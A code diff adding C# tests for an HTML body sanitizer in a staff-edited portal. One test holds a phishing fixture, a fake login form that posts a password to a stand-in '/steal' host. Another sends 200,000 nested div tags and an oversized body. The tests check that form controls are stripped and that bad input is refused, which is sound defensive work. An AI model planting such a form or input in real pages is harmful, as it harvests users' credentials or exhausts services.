@@ -142,4 +142,40 @@ public sealed class ItemDraftingTests(PostgresServer postgres)
 
         Assert.Equal("<p class=\"lead\"><strong>一、</strong>总体要求</p>", item.BodyHtml);
     }
+
+    // Found by the staff-side attack: a look-alike login form with a password field was stored and shown on the portal.
+    [Theory, BothDatabases]
+    public async Task Draft_FormControlsInTheBody_AreRemovedAndTheTextKept(DatabaseProvider provider)
+    {
+        await using var app = await TestApp.StartAsync(provider, postgres);
+        var agency = await app.SetUpAsync();
+        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
+        const string phishing = "<p>请重新登录</p><form action=\"https://example.invalid/steal\" method=\"post\"><label>密码</label>"
+            + "<input type=\"password\" name=\"pw\"><select><option>一</option></select><textarea>备注</textarea><button>登录</button></form>";
+
+        var item = await app.DraftAsync(editor, (await app.ValidInputAsync(agency.Id)) with { BodyHtml = phishing });
+
+        var stored = await app.WithDbAsync(db => db.Items.Where(i => i.Id == item.Id).Select(i => i.BodyHtml).SingleAsync(Ct));
+        foreach (var tag in new[] { "<form", "<input", "<select", "<option", "<textarea", "<button", "<label" })
+        {
+            Assert.DoesNotContain(tag, stored, StringComparison.OrdinalIgnoreCase);
+        }
+        Assert.Contains("请重新登录", stored, StringComparison.Ordinal);
+    }
+
+    [Theory, BothDatabases]
+    public async Task Draft_DeeplyNestedOrOversizedBody_IsRefusedAndNothingIsSaved(DatabaseProvider provider)
+    {
+        await using var app = await TestApp.StartAsync(provider, postgres);
+        var agency = await app.SetUpAsync();
+        var editor = await app.AddStaffAsync("editor", agency.Id, Roles.Editor);
+        var input = await app.ValidInputAsync(agency.Id);
+
+        var nested = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = string.Concat(Enumerable.Repeat("<div>", 200_000)) }));
+        var oversized = await Assert.ThrowsAsync<ValidationException>(() => app.DraftAsync(editor, input with { BodyHtml = "<p>" + new string('文', BodySanitizer.MaxLength) + "</p>" }));
+
+        Assert.Contains("嵌套超过", nested.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
+        Assert.Contains("正文过长", oversized.Errors[nameof(ItemInput.BodyHtml)].Single(), StringComparison.Ordinal);
+        Assert.Equal(0, await app.WithDbAsync(db => db.Items.CountAsync(Ct)));
+    }
 }
